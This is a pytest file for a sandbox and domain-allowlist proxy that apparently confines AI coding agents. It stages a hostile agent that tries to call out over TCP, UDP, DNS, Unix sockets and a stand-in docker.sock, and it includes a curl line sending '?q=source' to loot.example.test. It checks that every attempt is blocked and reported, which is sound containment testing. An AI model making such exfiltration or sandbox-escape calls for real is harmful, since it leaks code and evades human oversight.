"""A hostile agent calls out by every way there is: nothing of it arrives anywhere."""

import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from uuid import uuid4

import pytest

from attacks.stage import Raid, Stage, commands, make_stage, python, want
from autorun.adapters.domains import DomainProxy
from autorun.adapters.sandbox import Bubblewrap
from autorun.core.model import Command, Room
from autorun.effects import process
from kit.den import Den, make_den, require_sandbox

CALL = """
import socket, sys
for name, family, kind, address in {targets!r}:
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            s.connect(address if isinstance(address, str) else tuple(address))
            s.send(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04loot\\x07example\\x00\\x00\\x01\\x00\\x01")
            print(name, "sent")
    except OSError as error:
        print(name, "failed", error)
print("called")
"""
BLOCKED = "curl --silent --show-error --max-time 5 https://loot.example.test/?q=source; echo tried"


@dataclass
class Ear:
    """Listens on the machine outside; `heard` is who was reached, by name."""

    heard: set[str] = field(default_factory=set)
    targets: list[tuple[str, int, int, object]] = field(default_factory=list)

    def listen(
        self, name: str, family: socket.AddressFamily, kind: socket.SocketKind, address: tuple[str, int] | str
    ) -> socket.socket:
        """Listen at an address and take note when something comes."""
        server = socket.socket(family, kind)
        server.bind(address)
        if kind == socket.SOCK_STREAM:
            server.listen()
        self.targets.append((name, int(family), int(kind), server.getsockname()[:2]))
        if family == socket.AF_UNIX:
            self.targets[-1] = (name, int(family), int(kind), address)
        threading.Thread(target=self._hear, args=(name, server, kind), daemon=True).start()
        return server

    def _hear(self, name: str, server: socket.socket, kind: socket.SocketKind) -> None:
        while True:
            try:
                if kind == socket.SOCK_DGRAM:
                    server.recvfrom(64)
                else:
                    server.accept()[0].close()
            except OSError:
                return
            self.heard.add(name)


@contextmanager
def listening(folder: Path) -> Iterator[Ear]:
    """Listen at TCP, UDP, a resolver's stand-in, an abstract socket and a path like that of a container service."""
    ear = Ear()
    with ExitStack() as stack:
        for name, family, kind, address in (
            ("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
            ("tcp6", socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0)),
            ("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
            ("dns", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
            ("abstract", socket.AF_UNIX, socket.SOCK_STREAM, f"\0autorun-{uuid4()}"),
            ("path", socket.AF_UNIX, socket.SOCK_STREAM, str(folder / "docker.sock")),
        ):
            stack.enter_context(ear.listen(name, family, kind, address))
        yield ear


@dataclass(frozen=True, kw_only=True)
class Calls:
    """A session in which the agent called out; `reached` is who heard it."""

    stage: Stage
    raid: Raid
    call: str
    reached: frozenset[str]
    reachable: frozenset[str]


@pytest.fixture(scope="module")
def calls(tmp_path_factory: pytest.TempPathFactory) -> Calls:
    """One conversation with every call, with the domain list in use so that its refusals are seen too."""
    stage = make_stage(
        tmp_path_factory.mktemp("network"), config={"sandbox": {"allow_domains": ["allowed.example.test"]}}
    )
    want(stage, "call")
    with listening(stage.base) as ear:
        call = python(CALL.format(targets=ear.targets))
        raid = stage.play(commands([call, BLOCKED]))
        time.sleep(0.5)  # who was called may have to be scheduled first
        reached = frozenset(ear.heard)
        subprocess.run([sys.executable, "-c", CALL.format(targets=ear.targets)], check=True, capture_output=True)
        until = time.monotonic() + 10
        while len(ear.heard) < len(ear.targets) and time.monotonic() < until:
            time.sleep(0.05)
        return Calls(stage=stage, raid=raid, call=call, reached=reached, reachable=frozenset(ear.heard))


@pytest.mark.parametrize("way", ["tcp", "tcp6", "udp", "dns", "abstract", "path"])
def test_listeners_of_the_machine(calls: Calls, way: str) -> None:
    """Without a network namespace and mounts of its own: source code leaves, and the job's own services are open."""
    assert "called" in calls.raid.said(calls.call)
    assert way in calls.reachable  # the same call arrives from outside of the sandbox
    assert way not in calls.reached


def test_refused_hosts_are_told_with_the_command(calls: Calls) -> None:
    """Without the list of names: any host is reached; without the report: nobody learns that it was tried."""
    assert "tried" in calls.raid.said(BLOCKED)
    assert "403" in calls.raid.said(BLOCKED)
    said = "A connection to loot.example.test:443 was refused"
    [warned] = [line for line in calls.raid.log.splitlines() if said in line]
    assert "Bash: curl --silent" in warned
    page = (calls.stage.root / ".ai-agents/pull-requests/call.md").read_text()
    assert "## Refused connections" in page
    assert "loot.example.test:443 was refused" in page.replace("\u200b", "")
    assert "loot.example.test:443 was refused" in calls.stage.command_files[
        "GITHUB_STEP_SUMMARY"
    ].read_text().replace("\u200b", "")


# ------------ the list of names, with a resolver and listeners of the test's own


@pytest.fixture
def den(tmp_path: Path) -> Den:
    require_sandbox()
    return make_den(tmp_path)


def through(den: Den, proxy: Path, *argv: str) -> str:
    """Run a command in a sandbox whose one way out is the proxy."""
    box = Bubblewrap(
        require_sandbox(),
        folder=den.base / "papers",
        machine=den.machine,
        environ=den.environ,
        caps=den.caps,
        proxy=proxy,
    )
    done = process.run(box(Command(argv=argv, cwd=den.workspace.path, env={}), Room(workspace=den.workspace)))
    return (done.stdout + done.stderr).decode("utf-8", "replace")


CONNECT = """
import os, socket, sys, urllib.request
host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
for target in sys.argv[1:]:
    with socket.create_connection((host, int(port))) as s:
        s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
        print(target, s.recv(64).split(b"\\r\\n")[0].decode())
        s.sendall(b"hello")
        s.settimeout(2)
        try: print("echo", s.recv(64).decode())
        except OSError: pass
"""


@contextmanager
def echo() -> Iterator[tuple[str, int]]:
    """A server on loopback that stands for a host of the internet."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    peer, _ = server.accept()
                except OSError:
                    return
                with peer:
                    peer.sendall(b"you said " + peer.recv(64))

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()


def test_a_listed_host_is_reached_and_no_other(den: Den) -> None:
    """Without exact names, one port and a look at the address: a suffix, a port or a private address is a way out."""
    with echo() as there:
        addresses = {"good.example.test": [there], "private.example.test": [("127.0.0.1", there[1])]}
        allowed = ["good.example.test", "private.example.test"]
        proxy = DomainProxy(allowed, lookup=lambda host: addresses[host], exempt=frozenset({there}))
        inside = DomainProxy(allowed, lookup=lambda host: addresses[host])
        targets = ("good.example.test:443", "evil.good.example.test:443", "good.example.test:22", "github.com:443")
        with proxy.opened() as path:
            said = through(den, path, "/usr/bin/python3", "-c", CONNECT, *targets)
        with inside.opened() as path:
            refused = through(den, path, "/usr/bin/python3", "-c", CONNECT, "private.example.test:443")
    assert "good.example.test:443 HTTP/1.1 200 Connection established\necho you said hello" in said
    assert said.count("403 Forbidden") == 3
    assert [blocked.host for blocked in proxy.blocked()] == [
        "evil.good.example.test",
        "good.example.test",
        "github.com",
    ]
    assert "private.example.test:443 HTTP/1.1 403 Forbidden" in refused


def test_the_forwarder_is_no_burden(den: Den) -> None:
    """It ends with the command, holds no stream open, is nobody's child, and hides no exit code or argument."""
    proxy = DomainProxy(["good.example.test"])
    with proxy.opened() as path:
        said = through(den, path, "/bin/bash", "-c", 'wait; cat /proc/$$/cmdline | tr "\\0" " "; echo; exit 7')
        box = Bubblewrap(
            require_sandbox(), folder=den.base / "papers", machine=den.machine, environ=den.environ, proxy=path
        )
        command = Command(argv=("/bin/sh", "-c", "exit 7"), cwd=den.workspace.path, env={})
        ended = process.run(box(command, Room(workspace=den.workspace)), timeout=20)
    assert said.startswith("/bin/bash -c wait;")
    assert ended.returncode == 7
    assert not ended.killed
